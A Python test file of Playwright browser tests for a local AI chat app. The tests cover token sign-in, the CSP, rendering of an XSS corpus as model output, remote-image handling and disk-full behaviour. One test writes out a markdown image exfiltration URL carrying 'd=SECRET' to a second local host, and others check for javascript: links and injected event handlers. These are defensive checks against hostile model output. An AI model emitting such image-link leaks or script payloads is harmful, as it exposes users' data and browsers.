"""Issue 10 in a real browser: the token sign-in, the CSP, hostile model output, remote images, a full disk.

Real app processes, Debian's Chromium via Playwright, the scripted upstream on 127.0.0.1. Each test asserts what a
person sees, what the browser did (dialogs, requests, CSP violations) or what the ledger holds afterwards.
"""

from __future__ import annotations

import threading
import time
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from tests.support.app_process import AppProcess
from tests.support.app_runner import AppRunner
from tests.support.browser import Pages, conversation_id, last_answer, load, send, visible_words, wait_words
from tests.support.folders import fill, small_disk
from tests.support.upstream import Behavior, ScriptedUpstream
from tests.support.waiting import nothing_more_for_blocking
from tests.support.xss import CORPUS

WATCH = """
window.__csp = [];
document.addEventListener('securitypolicyviolation', e => window.__csp.push(e.violatedDirective + ' ' + e.blockedURI));
"""
HANDLERS = "[...document.querySelectorAll('*')].flatMap(e => [...e.attributes].filter(a => /^on/i.test(a.name))" \
    ".map(a => e.tagName + ' ' + a.name))"  # fmt: skip


class Watched:
    """A page in its own context, with what the browser did: console errors, dialogs, requests, CSP reports."""

    def __init__(self, open_page: Pages) -> None:
        self.page: Page = open_page(None, init_script=WATCH)  # blank: the listeners see the first load too
        self.context = self.page.context
        self.errors: list[str] = []
        self.dialogs: list[str] = []
        self.requests: list[str] = []
        self.page.on("console", lambda m: self.errors.append(m.text) if m.type == "error" else None)
        self.page.on("dialog", self._dialog)
        self.page.on("request", lambda r: self.requests.append(r.url))

    def _dialog(self, dialog: Any) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def violations(self) -> list[str]:
        return list(self.page.evaluate("window.__csp"))


@pytest.fixture
def watched(open_page: Pages) -> Callable[[], Watched]:
    """Opens watched pages, each in a context of its own; they are closed when the test ends (``open_page``)."""
    return lambda: Watched(open_page)


def sign_in(w: Watched, app: AppProcess) -> None:
    load(w.page, f"{app.url}/?token={app.token}")


def test_the_token_link_signs_in_once_and_the_address_bar_loses_the_token(watched, token_app: AppProcess) -> None:
    stranger = watched()
    refused = stranger.page.goto(token_app.url + "/")
    assert refused is not None and refused.status == 401
    expect(stranger.page.get_by_text("needs its access token")).to_be_visible()
    w = watched()
    sign_in(w, token_app)
    assert w.page.url == token_app.url + "/", "the token is not left in the address bar or history"
    (cookie,) = w.context.cookies()
    assert cookie["httpOnly"] and cookie["sameSite"] == "Strict" and token_app.token not in cookie["value"]
    w.page.goto(token_app.url + "/chat/c1")
    expect(w.page.locator(".lc-assistant")).to_have_count(1)
    assert w.page.evaluate("document.cookie") == "", "scripts cannot read it"


def test_the_page_works_under_its_content_security_policy_without_a_single_violation(
    watched, token_app: AppProcess, upstream: ScriptedUpstream
) -> None:
    w = watched()
    sign_in(w, token_app)
    response = w.page.reload()
    assert response is not None and "frame-ancestors 'none'" in response.headers["content-security-policy"]
    upstream.plan(Behavior(text="Some code:\n\n```python\nprint('hi')\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |"))
    send(w.page, "show me code")
    expect(last_answer(w.page)).to_have_attribute("data-status", "complete")
    expect(last_answer(w.page).locator(".codehilite")).to_have_count(1)
    w.page.get_by_role("button", name="Audit panel").click()
    expect(w.page.locator(".lc-audit-card").first).to_be_visible()
    with w.page.expect_download() as download:
        w.page.get_by_role("button", name="Export").click()
    assert download.value.suggested_filename.endswith(".jsonl")
    nothing_more_for_blocking(0.3)
    assert w.violations() == [] and w.errors == []


def test_the_xss_corpus_runs_nothing_in_chromium(watched, token_app: AppProcess, upstream: ScriptedUpstream) -> None:
    w = watched()
    sign_in(w, token_app)
    upstream.plan(Behavior(text="\n\n".join(CORPUS), chunk_delay=0.001))
    send(w.page, "be nasty")
    expect(last_answer(w.page)).to_have_attribute("data-status", "complete")
    body = w.page.locator(".lc-assistant .lc-body").last
    for link in body.locator("a").all():
        if link.is_visible():
            link.hover()  # mouseover handlers, if any survived, run now
    body.evaluate(  # and every element gets the events an injected handler would wait for
        "b => b.querySelectorAll('*').forEach(e => ['mouseover', 'focus', 'error', 'load', 'toggle']"
        ".forEach(t => e.dispatchEvent(new Event(t))))"
    )
    nothing_more_for_blocking(0.5)
    assert w.page.evaluate("window.__pwned") is None
    assert w.dialogs == []
    assert w.page.evaluate(HANDLERS) == []
    assert body.locator("script, img, iframe, svg, object, style, form").count() == 0
    hrefs = body.locator("a").evaluate_all("els => els.map(e => e.getAttribute('href') || '')")
    assert all(not h.strip().lower().startswith(("javascript:", "data:", "vbscript:")) for h in hrefs)


class Recorder(BaseHTTPRequestHandler):
    seen: list[str] = []

    def do_GET(self) -> None:  # noqa: N802 - the name http.server calls
        Recorder.seen.append(self.path)
        self.send_response(200)
        self.send_header("content-type", "image/png")
        self.end_headers()

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture
def other_host() -> Iterator[str]:
    """A second HTTP server on 127.0.0.1 (another origin) that records every request it gets."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    Recorder.seen = []
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def test_a_remote_image_in_an_answer_loads_nothing_and_is_shown_as_a_link(
    watched, token_app: AppProcess, upstream: ScriptedUpstream, other_host: str
) -> None:
    w = watched()
    sign_in(w, token_app)
    leak = f"http://{other_host}/c?d=SECRET"
    upstream.plan(Behavior(text=f"Chart: ![the chart]({leak})\n\nRaw: <img src='{leak}&raw=1'>"))
    send(w.page, "draw it")
    expect(last_answer(w.page)).to_have_attribute("data-status", "complete")
    link = last_answer(w.page).get_by_role("link", name="the chart")
    expect(link).to_have_attribute("href", leak)
    nothing_more_for_blocking(0.5)
    assert last_answer(w.page).locator("img").count() == 0
    assert [url for url in w.requests if other_host in url] == [], "Chromium requested nothing from that host"
    assert Recorder.seen == [], "the other host saw no request"


def test_the_demo_model_answers_on_an_ipv6_loopback_bind_open_to_the_local_browser(
    watched, loopback_app: AppProcess
) -> None:
    w = watched()
    load(w.page, loopback_app.url)
    send(w.page, "Explain retries in distributed systems")
    expect(last_answer(w.page)).to_have_attribute("data-status", "complete", timeout=30_000)
    assert len(visible_words(w.page)) > 20 and w.violations() == []


STORY_WORDS = [f"w{n}" for n in range(150)]


@pytest.mark.solo  # the banner's one second is measured with nothing else running (tasks.py test)
def test_a_disk_filling_up_mid_answer_shows_the_banner_within_a_second_refuses_send_and_loses_nothing(
    watched, run_app: AppRunner, upstream: ScriptedUpstream, tmp_path: Path
) -> None:
    with small_disk(tmp_path / "data", 1024) as data:
        with run_app(data=data) as app:
            w = watched()
            load(w.page, app.url)
            banner = w.page.locator(".lc-danger[role=alert]")  # the banner, not the notice a refused Send shows
            upstream.plan(Behavior(text=" ".join(STORY_WORDS), chunk_delay=0.02))
            send(w.page, "a long story")
            cid = conversation_id(w.page)
            wait_words(w.page, 15)
            filler = fill(data)
            filled = time.monotonic()
            expect(banner).to_be_visible(timeout=1_000)
            banner_ms = (time.monotonic() - filled) * 1000
            expect(banner).to_contain_text("the disk is full")
            expect(last_answer(w.page)).to_have_attribute("data-status", "complete", timeout=15_000)
            assert visible_words(w.page) == STORY_WORDS, "the answer went on streaming, kept in memory"
            box = w.page.get_by_label("Message")
            box.fill("are you still there?")
            box.press("Enter")
            expect(w.page.get_by_text("Nothing new is sent until it works again")).to_be_visible()
            expect(box).to_have_value("are you still there?")
            assert len(upstream.records) == 1, "nothing was sent to the model"
            filler.unlink()
            expect(banner).to_be_hidden(timeout=5_000)
        print(f"banner shown {banner_ms:.0f} ms after the disk filled")
        lines = [x for x in app.log.read_text().splitlines() if "Saving fails" in x]
        assert len(lines) == 1, lines
        with run_app(data=data) as again:
            w.page.goto(f"{again.url}/chat/{cid}")
            expect(last_answer(w.page)).to_have_attribute("data-status", "complete")
            assert visible_words(w.page) == STORY_WORDS
    assert banner_ms < 1_000
